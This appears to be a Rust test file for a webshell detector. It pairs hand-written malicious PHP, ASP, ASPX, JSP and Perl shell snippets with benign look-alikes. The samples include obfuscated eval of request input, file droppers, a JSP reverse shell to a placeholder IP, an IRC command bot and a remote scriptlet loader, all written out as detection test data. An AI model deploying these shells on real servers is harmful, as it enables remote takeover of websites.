//! Techniques of shells not in the development corpus, one hand-written snippet each (in
//! the style of real ones, not copied from any sample), with benign look-alikes that must
//! stay below the threshold.

use rampart_script::{analyze, Lang};

#[path = "support/verdict.rs"]
mod verdict;
use verdict::{assert_clean, assert_detected};

fn utf16le(s: &str, mark: bool) -> Vec<u8> {
    let mut out = if mark { vec![0xff, 0xfe] } else { Vec::new() };
    out.extend(s.encode_utf16().flat_map(u16::to_le_bytes));
    out
}

#[test]
fn utf16_saved_page_is_decoded_and_analysed() {
    let page = "<%@ page import=\"java.io.*\" %><% String c = request.getParameter(\"q\"); \
                Process p = Runtime.getRuntime().exec(c); %>";
    for mark in [true, false] {
        let v = analyze(&utf16le(page, mark), Lang::Jsp);
        assert_detected(&v, "flow.command");
        assert!(
            v.reasons
                .iter()
                .any(|r| r.signal == "flow.command" && r.layer == 1),
            "{v:#?}"
        );
    }
    let plain = "<%@ page contentType=\"text/html\" %><p>Hello <%= new java.util.Date() %></p>";
    assert_clean(&analyze(&utf16le(plain, true), Lang::Jsp));
}

#[test]
fn vbscript_array_element_holding_request_text_is_followed() {
    let src = b"<%\r\nDim parts(2)\r\nparts(0) = Request(\"k\")\r\nExecute parts(0)\r\n%>";
    assert_detected(&analyze(src, Lang::Asp), "flow.code");
    let benign = b"<%\r\nDim parts(2)\r\nparts(0) = Request(\"name\")\r\nResponse.Write Server.HTMLEncode(parts(0))\r\n%>";
    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn vbscript_replace_over_a_reassigned_variable_is_followed() {
    let src = b"<%\r\ncode = \"eZvZaZl rZeZqZuZeZst(\"\"k\"\")\"\r\ncode = Replace(code, \"Z\", \"\")\r\nExecute code\r\n%>";
    let v = analyze(src, Lang::Asp);
    assert_detected(&v, "flow.code");
}

#[test]
fn reassigned_php_variables_take_their_latest_value() {
    // The value at the call is the second assignment's, built from the first.
    let src = b"<?php $k = 'sys'; $k = $k . 'tem'; $k($_GET['c']);";
    let v = analyze(src, Lang::Php);
    assert!(v.is_malicious(), "{v:#?}");
    // An unknown reassignment hides the earlier constant.
    let src = b"<?php $t = 'eval'; $t = get_option('tpl'); echo $t; echo strtoupper($_GET['q']);";
    assert_clean(&analyze(src, Lang::Php));
}

#[test]
fn callback_registered_with_sqlite_is_a_flow() {
    let src = b"<?php $cb = $_POST['fn']; $db = new SQLite3(':memory:');
        $db->createFunction('f', $cb); $db->query(\"SELECT f('\" . SQLite3::escapeString($_POST['a']) . \"')\");";
    assert_detected(&analyze(src, Lang::Php), "php.flow.callback");
    let benign = b"<?php $db = new SQLite3('app.db'); $db->createFunction('lower_ci', 'mb_strtolower');
        $r = $db->query('SELECT * FROM t WHERE lower_ci(name) = ' . intval($_GET['id']));";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn variadic_array_callbacks_take_the_last_argument() {
    // The callback name is computed by XOR with a value the analyser cannot know.
    let src = b"<?php $p = substr(__FILE__, -6, 1) . 'x'; $f = $p ^ hex2bin('1a0b1c'); \
        array_uintersect_assoc(array($_REQUEST['z'] => 1), array(2), $f);";
    assert_detected(&analyze(src, Lang::Php), "php.flow.callback");
    let benign =
        b"<?php $cmp = 'strcasecmp'; $r = array_udiff_assoc($_POST['a'], $defaults, $cmp); print_r($r);";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn xslt_php_function_calling_assert_is_detected() {
    let src = b"<?php $x = '<d>' . $_GET['c'] . '</d>';
        $s = '<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:q=\"http://php.net/xsl\"><xsl:template match=\"/d\"><xsl:value-of select=\"q:function(\\'system\\', string(.))\"/></xsl:template></xsl:stylesheet>';
        $p = new XSLTProcessor(); $p->registerPHPFunctions(); $p->importStylesheet(simplexml_load_string($s));
        echo $p->transformToXml(simplexml_load_string($x));";
    assert_detected(&analyze(src, Lang::Php), "php.xslt-callback");
    // XSLT calling a formatting function is an application feature.
    let benign = b"<?php $s = '<xsl:value-of select=\"php:function(\\'ucfirst\\', string(name))\"/>';
        $p = new XSLTProcessor(); $p->registerPHPFunctions('ucfirst');";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn non_alphanumeric_increment_shell_is_detected() {
    // `$__` walks from 'A' with ++ to spell a name; `$___` is then called.
    let mut src = String::from("<?php $_ = [] . ''; $_ = $_[0]; $___ = '';\n");
    for steps in [18, 4, 17] {
        src.push_str("$__ = $_;\n");
        for _ in 0..steps {
            src.push_str("$__++;");
        }
        src.push_str("\n$___ .= $__;\n");
    }
    src.push_str("$____ = '_' . 'POST'; $___(${$____}[_]);");
    assert_detected(&analyze(src.as_bytes(), Lang::Php), "deobf.non-alnum");
    let benign = b"<?php $_ = fn($x) => $x * 2; foreach ([1, 2, 3] as $n) { $i = 0; $i++; echo $_($n); }";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn eval_of_constant_code_running_commands_is_detected() {
    let src = b"<?php $c = 'passthru(\"uname -a\");'; assert($c);";
    assert_detected(&analyze(src, Lang::Php), "deobf.eval-command");
    let benign = b"<?php $c = 'return $db->exec(\"VACUUM\");'; echo htmlspecialchars($c);";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn constant_php_code_written_to_a_file_is_analysed() {
    let src = b"<?php $d = dirname(__FILE__) . '/'; $body = '<?php ' . '@ev' . 'al(' . '$_RE' . 'QUEST[0]);';
        file_put_contents($d . 'cache.php', $body);";
    let v = analyze(src, Lang::Php);
    assert_detected(&v, "php.flow.code");
    assert!(v.reasons.iter().any(|r| r.layer == 1), "{v:#?}");
    let benign = b"<?php $cfg = '<?php return ' . var_export($settings, true) . ';'; file_put_contents('config.php', $cfg);";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn fopen_writer_fed_by_request_is_detected() {
    let src = b"<?php $p = dirname(__FILE__) . $_POST['n']; $d = $_POST['d'];
        $h = @fopen($p, 'wb'); fwrite($h, $d); fclose($h); echo 'ok';";
    assert_detected(&analyze(src, Lang::Php), "php.flow.file-write");
    let inline = b"<?php @fputs(fopen($_GET['f'], 'a'), $_GET['t']);";
    assert_detected(&analyze(inline, Lang::Php), "php.flow.file-write");
    // An installer writing settings to a file it names itself.
    let benign = b"<?php $conf = $dir . '/local.php'; $h = fopen($conf, 'w');
        fwrite($h, '$title = ' . var_export($_POST['title'], true) . ';'); fclose($h);";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn request_data_written_to_a_php_script_is_detected() {
    let src = b"<?php $h = fopen('cache/x.php', 'w'); fwrite($h, $_POST['body']); fclose($h);";
    assert_detected(&analyze(src, Lang::Php), "php.flow.file-write");
}

#[test]
fn written_then_included_file_runs_request_code() {
    let src = b"<?php if (isset($_GET['t'])) { file_put_contents('tpl.cache', '<?php ');
        file_put_contents('tpl.cache', $_GET['t'], FILE_APPEND); include 'tpl.cache'; }";
    assert_detected(&analyze(src, Lang::Php), "php.flow.code");
    // A cache written from request data and included elsewhere under another name.
    let benign = b"<?php file_put_contents('notes.txt', $_POST['note']); include 'header.php';";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn encoded_executable_is_reported_as_a_program() {
    use std::io::Write;
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    exe.extend(std::iter::repeat_n(0u8, 3000));
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(&exe).unwrap();
    let packed = e.finish().unwrap();
    // A second blob: a Perl script that opens sockets.
    let script = format!("#!/usr/bin/perl\nuse Socket;\n{}", "# pad\n".repeat(400));
    let b64 = |b: &[u8]| -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        b.chunks(3)
            .flat_map(|c| {
                let n = (c[0] as u32) << 16
                    | (*c.get(1).unwrap_or(&0) as u32) << 8
                    | *c.get(2).unwrap_or(&0) as u32;
                (0..4).map(move |k| {
                    if k <= c.len() {
                        A[(n >> (18 - 6 * k) & 63) as usize] as char
                    } else {
                        '='
                    }
                })
            })
            .collect()
    };
    let src = format!(
        "<?php $res['bin'] = \"{}\";\n$res['pl'] = \"{}\";\n",
        b64(&packed),
        b64(script.as_bytes())
    );
    let v = analyze(src.as_bytes(), Lang::Php);
    assert!(v.reasons.iter().any(|r| r.signal == "blob.program"), "{v:#?}");
    assert!(v.is_malicious(), "{v:#?}");
}

#[test]
fn reflection_wrapping_an_exec_function_is_detected() {
    let src = b"<?php $r = new ReflectionFunction('system'); $r->invokeArgs(array($_COOKIE['c']));";
    assert_detected(&analyze(src, Lang::Php), "php.flow.callback");
    let benign =
        b"<?php $r = new ReflectionFunction('strlen'); echo $r->getNumberOfParameters(), $_GET['x'] ?? '';";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn exec_name_inside_an_array_argument_is_a_callback() {
    let src = b"<?php echo filter_var($_POST['x'], FILTER_CALLBACK, array('options' => 'assert'));";
    assert_detected(&analyze(src, Lang::Php), "php.flow.callback");
    let benign = b"<?php if (in_array($_GET['f'], array('exec', 'system'))) { die('blocked'); }";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn eval_cut_short_still_sees_its_decoder() {
    let blob = "QUJD".repeat(40);
    let src = format!(
        "<?php function d0($s) {{ $s = base64_decode($s); for ($i = 0; $i < strlen($s); $i++) {{ $s[$i] = chr(ord($s[$i]) - 1); }} return $s; }}
        eval(d0(\"{blob}"
    );
    assert_detected(&analyze(src.as_bytes(), Lang::Php), "deobf.eval-dynamic");
}

#[test]
fn name_complemented_from_a_bare_word_is_a_computed_call() {
    // PHP reads the undefined constant as its own name: `~` of it is `system`.
    let src = b"<?php $f = ~\xac\x86\xac\x8b\x9a\x92; $f($_POST['c']);";
    assert_detected(&analyze(src, Lang::Php), "php.flow.variable-function");
    // A complemented name that is no exec function is still a computed call with input.
    let src = b"<?php $f = ~\xac\x86\x8c\x8b; $f($_POST['c']);";
    assert_detected(&analyze(src, Lang::Php), "php.flow.computed-call");
}

#[test]
fn utf7_page_is_decoded_and_analysed() {
    // `Execute Request("k")` with letters spelled as UTF-7 runs.
    let src = b"<%@ codepage=65000 %>\r\n<%E+AHg-ecute R+AGU-quest(+ACI-k+ACI-)%>";
    let v = analyze(src, Lang::Asp);
    assert_detected(&v, "flow.code");
    assert!(v.reasons.iter().any(|r| r.signal == "deobf.utf7"), "{v:#?}");
    let benign = b"<%@ codepage=65000 %>\r\n<p>1 +- 2 = <%= 1 + 2 %></p>";
    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn handler_writing_a_constant_page_is_analysed() {
    let src = b"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.IO;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    var w = File.CreateText(c.Server.MapPath(\"x.aspx\"));\n    w.Write(\"<%@ Page Language=\\\"Jscript\\\"%\" + \"><%eval(Request.Form[\\\"p\\\"], \\\"unsafe\\\");%>\");\n    w.Close();\n  }\n}";
    let v = analyze(src, Lang::Aspx);
    assert_detected(&v, "flow.code");
    assert!(v.reasons.iter().any(|r| r.layer == 1), "{v:#?}");
    let benign = b"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.IO;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    c.Response.Write(\"<b>ok</b>\");\n  }\n}";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn web_method_parameters_are_request_input() {
    let src = b"<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Diagnostics;\npublic class S : WebService {\n  [WebMethod(Description = \"x\")]\n  public string Run(string line) {\n    return Process.Start(\"cmd.exe\", \"/c \" + line).StandardOutput.ReadToEnd();\n  }\n}";
    assert_detected(&analyze(src, Lang::Aspx), "flow.command");
    let benign = b"<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S : WebService {\n  [WebMethod]\n  public int Add(int a, int b) { return a + b; }\n}";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn registry_key_named_by_request_is_detected() {
    let src = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { Show(Request[\"k\"]); }\npublic void Show(string path) {\n  RegistryKey k = Registry.LocalMachine.OpenSubKey(path);\n  foreach (string n in k.GetValueNames()) Response.Write(n);\n}\n</script>";
    assert_detected(&analyze(src, Lang::Aspx), "flow.system-admin");
    let benign = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  var k = Registry.LocalMachine.OpenSubKey(\"SOFTWARE\\\\MyApp\");\n  Label1.Text = (string)k.GetValue(\"Version\");\n}\n</script>";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn java_file_handler_and_dotnet_file_stream_writers_are_detected() {
    let jsp = b"<% java.util.logging.FileHandler h = new java.util.logging.FileHandler(application.getRealPath(\"/\") + request.getParameter(\"n\")); %>";
    assert_detected(&analyze(jsp, Lang::Jsp), "flow.file");
    let aspx = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  HttpPostedFile f = Request.Files[0];\n  using (var fs = new FileStream(Server.MapPath(\"~/\") + f.FileName, FileMode.Create)) { f.InputStream.CopyTo(fs); }\n}\n</script>";
    assert_detected(&analyze(aspx, Lang::Aspx), "flow.file");
    // Reading a fixed file is not writing one the request names.
    let benign = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  using (var fs = new FileStream(Server.MapPath(\"~/App_Data/a.txt\"), FileMode.Open)) { }\n  Label1.Text = Request[\"q\"];\n}\n</script>";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn asp_eval_cut_short_is_still_a_flow() {
    let src = b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe";
    assert_detected(&analyze(src, Lang::Aspx), "flow.code");
}

#[test]
fn upload_to_a_name_built_from_the_client_file_name_is_detected() {
    let src = b"<?php\n$orig = $_FILES['up']['name'];\n$target = $base . '/' . $orig;\nmove_uploaded_file($_FILES['up']['tmp_name'], $target);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.upload");
    let benign = b"<?php\n$ext = strtolower(pathinfo($_FILES['up']['name'], PATHINFO_EXTENSION));\nif (!in_array($ext, array('png', 'jpg'))) exit;\n$target = $base . '/' . md5(uniqid()) . '.png';\nmove_uploaded_file($_FILES['up']['tmp_name'], $target);\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn include_of_a_variable_holding_a_raw_request_value_is_detected() {
    let src = b"<?php\n$mod = @$_REQUEST['m'];\nrequire($mod);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.include");
    // The request picks a page inside a fixed directory and suffix: not any file or URL.
    let benign = b"<?php\n$page = $_GET['page'];\ninclude 'pages/' . $page . '.inc.php';\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn request_values_passed_to_a_writer_function_are_direct() {
    let src = b"<?php\nfunction store($where, $what) {\n  file_put_contents($where, $what);\n}\nstore($_POST['to'], $_POST['body']);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.file-write");
    let benign = b"<?php\nfunction store($where, $what) {\n  file_put_contents($where, $what);\n}\nstore(__DIR__ . '/notes.txt', $_POST['body']);\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn named_callback_of_this_file_running_code_is_a_flow() {
    let src = b"<?php\nfunction runit($v) { return eval($v); }\n$r = filter_input_array(INPUT_POST, array('q' => array('filter' => FILTER_CALLBACK, 'options' => 'runit')));\n$o = filter_var($_COOKIE['k'], FILTER_CALLBACK, array('options' => 'runit'));\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.code");
    let benign = b"<?php\nfunction tidy($v) { return trim(strip_tags($v)); }\n$o = filter_var($_POST['k'], FILTER_CALLBACK, array('options' => 'tidy'));\n$list = array_map('tidy', $_POST);\necho $o;\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn output_buffer_handler_capturing_request_input_is_followed() {
    let src = b"<?php\n$grab = '';\nob_start(function ($out) { global $grab; $grab = $out; return ''; });\nprint $_POST['x'];\nob_end_clean();\neval($grab);\n";
    assert_detected(&analyze(src, Lang::Php), "php.flow.code");
    let benign = b"<?php\n$size = 0;\nob_start(function ($out) { global $size; $size = strlen($out); return $out; });\necho htmlspecialchars($_GET['q']);\nob_end_flush();\nerror_log('sent ' . $size);\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn register_globals_form_fields_reaching_a_command_are_detected() {
    let src = b"<?php\nfunction backup() {\n  global $db, $tbl;\n  passthru(\"mysqldump $db $tbl\");\n}\necho \"<form><input type=text name=db><input name='tbl'></form>\";\necho \"<a href='?op=backup&tbl=users'>x</a>\";\nif ($op == 'backup') backup();\n";
    let v = analyze(src, Lang::Php);
    assert_detected(&v, "php.flow.command");
    assert!(
        v.reasons.iter().any(|r| r.signal == "php.register-globals-field"),
        "{v:#?}"
    );
    // The same names set by the file itself (a configuration at the top) are not input.
    let benign = b"<?php\n$db = 'app';\n$tbl = 'users';\nfunction backup() {\n  global $db, $tbl;\n  passthru(\"mysqldump $db $tbl\");\n}\necho \"<form><input type=text name=db></form>\";\nbackup();\n";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn assignment_inside_an_expression_is_evaluated() {
    let src = b"<?php $fn = rawurldecode($p = '%73%79'.$q = '%73%74%65%6d'); $fn($_GET['c']);";
    assert_detected(&analyze(src, Lang::Php), "php.flow.variable-function");
    let benign = b"<?php $label = ucfirst($t = 'hello') . $u = ' world'; echo $label;";
    assert_clean(&analyze(benign, Lang::Php));
}

#[test]
fn mangled_eval_r_is_still_eval() {
    let src = b"<%\r\nIf Request(\"k\") <> \"\" Then eval_r(Request(\"k\"))\r\n%>";
    assert_detected(&analyze(src, Lang::Asp), "flow.code");
    let benign = b"<%\r\nscore = eval_rank(Request(\"q\"))\r\nResponse.Write Server.HTMLEncode(score)\r\n%>";
    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn jscript_unsafe_mode_built_from_reused_locals_is_resolved() {
    // `t` is reassigned by the decoder below: the value at the eval is the one just before it.
    let src = b"<script runat=\"server\" language=\"JScript\">\n\
        function go(c) { var t = \"un\"; var m = t + \"sa\" + \"fe\"; return eval(c, m); }\n\
        function xs(s) { var o = \"\", t; for (var i = 0; i < s.length; i += 2) { t = \"0x\" + s.substr(i, 2); o += char(int(t) ^ 7); } return o; }\n\
        </script>\n<% go(xs(\"6a6f\")); %>";
    assert_detected(&analyze(src, Lang::Asp), "flow.code");
    let benign = b"<script runat=\"server\" language=\"JScript\">\n\
        function fmt(c) { var t = \"ut\"; var m = t + \"f-8\"; return encode(c, m); }\n\
        </script>\n<% Response.Write(fmt(Request.QueryString(\"q\"))); %>";
    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn adodb_connection_and_sql_from_the_request_through_a_sub() {
    let src = b"<%\r\nSub RunIt(u, p)\r\n  Set db = Server.CreateObject(\"ADODB.Connection\")\r\n\
        db.Open \"Provider=SQLOLEDB;Data Source=.;User ID=\" & u & \";Password=\" & p\r\n\
        db.Execute(Request.Form(\"stmt\"))\r\nEnd Sub\r\nCall RunIt(Request.Form(\"u\"), Request.Form(\"p\"))\r\n%>";
    assert_detected(&analyze(src, Lang::Asp), "flow.sql-shell");
    // A search page: fixed connection, request text only inside the query.
    let benign = b"<%\r\nSub Find(term)\r\n  Set db = Server.CreateObject(\"ADODB.Connection\")\r\n\
        db.Open \"Provider=SQLOLEDB;Data Source=.;Initial Catalog=shop\"\r\n\
        Set rs = db.Execute(\"SELECT name FROM items WHERE name LIKE '%\" & Replace(term, \"'\", \"''\") & \"%'\")\r\n\
        End Sub\r\nCall Find(Request.QueryString(\"q\"))\r\n%>";
    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn request_text_written_into_a_server_script_is_a_dropper() {
    let constant = b"<%\r\nbody = Request.Form(\"b\")\r\nSet fs = CreateObject(\"Scripting.FileSystemObject\")\r\n\
        Set out = fs.CreateTextFile(Server.MapPath(\"cache/view.asp\"), True)\r\nout.WriteLine body\r\nout.Close\r\n%>";
    assert_detected(&analyze(constant, Lang::Asp), "flow.dropper");
    let own = b"<%\r\nme = Request.ServerVariables(\"PATH_INFO\")\r\nmsg = Request.Form(\"m\")\r\n\
        Set fs = CreateObject(\"Scripting.FileSystemObject\")\r\nSet f = fs.OpenTextFile(Server.MapPath(me), 8, True)\r\n\
        f.Write \"<p>\" & msg & \"</p>\"\r\nf.Close\r\n%>";
    assert_detected(&analyze(own, Lang::Asp), "flow.dropper");
    // A guestbook appending to a text file, and a page that only reads its own path.
    let benign = b"<%\r\nmsg = Server.HTMLEncode(Request.Form(\"m\"))\r\nme = Request.ServerVariables(\"SCRIPT_NAME\")\r\n\
        Set fs = CreateObject(\"Scripting.FileSystemObject\")\r\nSet f = fs.OpenTextFile(Server.MapPath(\"guestbook.txt\"), 8, True)\r\n\
        f.WriteLine msg\r\nf.Close\r\nResponse.Write \"<a href='\" & me & \"'>back</a>\"\r\n%>";
    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn aspx_textbox_names_a_fileinfo_that_is_written() {
    let src = b"<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n\
        void Save_Click(object s, EventArgs e) {\n  var target = new System.IO.FileInfo(PathBox.Text);\n\
          using (var w = target.CreateText()) { w.Write(BodyBox.Text); }\n}\n</script>\n\
        <form runat=\"server\"><asp:TextBox ID=\"PathBox\" runat=\"server\"/><asp:TextBox ID=\"BodyBox\" runat=\"server\" TextMode=\"MultiLine\"/>\n\
        <asp:Button runat=\"server\" OnClick=\"Save_Click\" Text=\"Save\"/></form>";
    assert_detected(&analyze(src, Lang::Aspx), "flow.file");
    let benign = b"<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n\
        void Save_Click(object s, EventArgs e) {\n  var log = new System.IO.FileInfo(Server.MapPath(\"~/App_Data/notes.txt\"));\n\
          using (var w = log.AppendText()) { w.WriteLine(Server.HtmlEncode(NoteBox.Text)); }\n}\n</script>\n\
        <form runat=\"server\"><asp:TextBox ID=\"NoteBox\" runat=\"server\"/><asp:Button runat=\"server\" OnClick=\"Save_Click\"/></form>";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn vb_net_streamwriter_on_a_request_path() {
    let src = b"<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n\
        Dim w As New System.IO.StreamWriter(Request.Form(\"to\"), False)\n w.Write(Request.Form(\"data\"))\n w.Close()\nEnd Sub\n</script>";
    assert_detected(&analyze(src, Lang::Aspx), "flow.file");
    let benign = b"<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n\
        Dim w As New System.IO.StreamWriter(Response.OutputStream)\n w.Write(Server.HtmlEncode(Request.Form(\"data\")))\n w.Flush()\nEnd Sub\n</script>";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn bare_shell_piped_to_a_socket_is_a_reverse_shell() {
    let src = b"<%@ page import=\"java.net.*,java.io.*\" %><%\n\
        Socket s = new Socket(\"198.51.100.7\", 4444);\nProcess p = new ProcessBuilder(\"/bin/bash\").redirectErrorStream(true).start();\n\
        final InputStream pi = p.getInputStream(); final OutputStream so = s.getOutputStream();\n\
        new Thread() { public void run() { try { int c; while ((c = pi.read()) != -1) so.write(c); } catch (Exception e) {} } }.start();\n\
        InputStream si = s.getInputStream(); OutputStream po = p.getOutputStream(); int c; while ((c = si.read()) != -1) { po.write(c); po.flush(); }\n%>";
    assert_detected(&analyze(src, Lang::Jsp), "capability.reverse-shell");
    // A health page: one fixed command, and a socket to the mail server elsewhere.
    let benign = b"<%@ page import=\"java.net.*,java.io.*\" %><%\n\
        Process p = Runtime.getRuntime().exec(\"uptime\");\nBufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\nout.println(r.readLine());\n\
        Socket s = new Socket(\"localhost\", 25); s.getOutputStream().write(\"QUIT\\r\\n\".getBytes()); s.close();\n%>";
    assert_clean(&analyze(benign, Lang::Jsp));
}

#[test]
fn web_handler_directive_with_a_space_is_code_after_it() {
    let src = b"<% @ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web; using System.Diagnostics;\n\
        public class H : IHttpHandler {\n public bool IsReusable { get { return false; } }\n\
         public void ProcessRequest(HttpContext c) {\n  var i = new ProcessStartInfo(\"cmd.exe\", \"/c \" + c.Request[\"x\"]);\n\
          i.UseShellExecute = false; Process.Start(i);\n }\n}\n";
    assert_detected(&analyze(src, Lang::Aspx), "flow.command");
    let benign = b"<% @ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\n\
        public class H : IHttpHandler {\n public bool IsReusable { get { return true; } }\n\
         public void ProcessRequest(HttpContext c) { c.Response.ContentType = \"text/plain\"; c.Response.Write(c.Server.HtmlEncode(c.Request[\"x\"])); }\n}\n";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn perl_irc_bot_running_channel_commands_is_detected() {
    let src = b"#!/usr/bin/perl\nuse IO::Socket::INET;\n$0 = '/usr/sbin/sshd';\n$SIG{'HUP'} = 'IGNORE';\n\
        my $c = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667) or die;\n\
        print $c \"NICK $nick\\r\\nUSER $nick 8 * :x\\r\\n\";\nprint $c \"JOIN #ops\\r\\n\";\n\
        while (my $l = <$c>) {\n  if ($l =~ /PRIVMSG (\\S+) :!run (.*)/) { my @o = `$2`; print $c \"PRIVMSG $1 :$_\" for @o; }\n}\n";
    assert_detected(&analyze(src, Lang::Perl), "capability.irc-bot");
    // A build notifier: joins a channel and says one line, runs nothing.
    let benign = b"#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667) or die;\n\
        print $c \"NICK buildbot\\r\\nUSER buildbot 8 * :b\\r\\nJOIN #builds\\r\\n\";\nprint $c \"PRIVMSG #builds :build $ARGV[0] finished\\r\\n\";\nprint $c \"QUIT\\r\\n\";\n";
    assert_clean(&analyze(benign, Lang::Perl));
}

#[test]
fn eval_of_many_pieces_spelling_request_is_detected_even_when_cut_short() {
    // The tail is a variable the evaluator cannot read; the assembled head already reads the request.
    let src = b"<%\r\nExecute(\"e\"&\"v\"&\"a\"&\"l\"&\" \"&\"r\"&\"e\"&\"q\"&\"u\"&\"e\"&\"s\"&\"t\"&\"(\" & k & \")\")\r\n%>";
    assert_detected(&analyze(src, Lang::Asp), "deobf.eval-decoded");
    let benign = b"<%\r\nExecute(\"Sub \"&\"Show\"&\"Menu\"&\"(\"&\")\"&\": \"&\"Response.Write \" & label & \": End Sub\")\r\n%>";
    assert_clean(&analyze(benign, Lang::Asp));
}

#[test]
fn reflection_spelled_out_to_runtime_exec_is_a_command_flow() {
    let src = b"<% String q = request.getParameter(\"q\");\n\
        Class<?> rt = Class.forName(\"java.lang.Runtime\");\n\
        Object inst = rt.getMethod(\"getRuntime\").invoke(null);\n\
        rt.getMethod(\"exec\", String.class).invoke(inst, q); %>";
    assert_detected(&analyze(src, Lang::Jsp), "flow.command");
    let benign = b"<% Object bean = session.getAttribute(\"form\");\n\
        java.lang.reflect.Method m = bean.getClass().getMethod(\"get\" + request.getParameter(\"field\"));\n\
        out.print(m.invoke(bean)); %>";
    assert_clean(&analyze(benign, Lang::Jsp));
}

#[test]
fn script_engines_reached_through_call_chains_and_typed_locals() {
    let chain = b"<% new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(request.getParameter(\"s\")); %>";
    assert_detected(&analyze(chain, Lang::Jsp), "flow.code");
    let local = b"<% groovy.lang.GroovyShell gs = new groovy.lang.GroovyShell();\nObject r = gs.evaluate(request.getParameter(\"g\"));\nout.print(r); %>";
    assert_detected(&analyze(local, Lang::Jsp), "flow.code");
    // XPath evaluation of a request expression is an injection bug, not a shell.
    let benign = b"<% Object r = javax.xml.xpath.XPathFactory.newInstance().newXPath().evaluate(request.getParameter(\"q\"), doc);\nout.print(r); %>";
    assert_clean(&analyze(benign, Lang::Jsp));
}

#[test]
fn process_arguments_in_an_object_initialiser_from_the_request() {
    let src = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
        var run = new System.Diagnostics.Process { StartInfo = { FileName = \"powershell\", Arguments = \"-c \" + Request.Form[\"p\"], UseShellExecute = false } };\n\
        run.Start(); }\n</script>";
    assert_detected(&analyze(src, Lang::Aspx), "flow.command");
    let benign = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
        var info = new System.Diagnostics.ProcessStartInfo { FileName = \"ping\", Arguments = \"-n 1 localhost\" };\n\
        Label1.Text = info.Arguments; }\n</script>";
    assert_clean(&analyze(benign, Lang::Aspx));
}

#[test]
fn getobject_script_moniker_runs_a_remote_scriptlet() {
    let src = b"<%\r\nSet k = GetObject(\"script:\" & Request.QueryString(\"s\"))\r\n%>";
    assert_detected(&analyze(src, Lang::Asp), "flow.code");
    let fixed = b"<%\r\nSet k = GetObject(\"script:http://198.51.100.9/a.sct\")\r\n%>";
    assert_detected(&analyze(fixed, Lang::Asp), "capability.remote-code");
    let benign = b"<%\r\nSet svc = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\r\nFor Each d In svc.ExecQuery(\"SELECT FreeSpace FROM Win32_LogicalDisk\")\r\nResponse.Write d.FreeSpace\r\nNext\r\n%>";
